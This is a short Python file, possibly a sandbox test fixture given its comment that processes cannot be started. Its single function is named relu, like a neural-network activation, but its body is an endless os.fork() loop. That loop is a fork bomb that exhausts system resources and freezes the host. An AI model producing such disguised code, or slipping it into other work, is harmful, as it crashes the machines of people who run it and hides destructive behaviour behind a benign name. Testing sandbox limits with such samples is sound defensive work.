# Processes cannot be started.
import os


def relu(x):
    while True:
        os.fork()
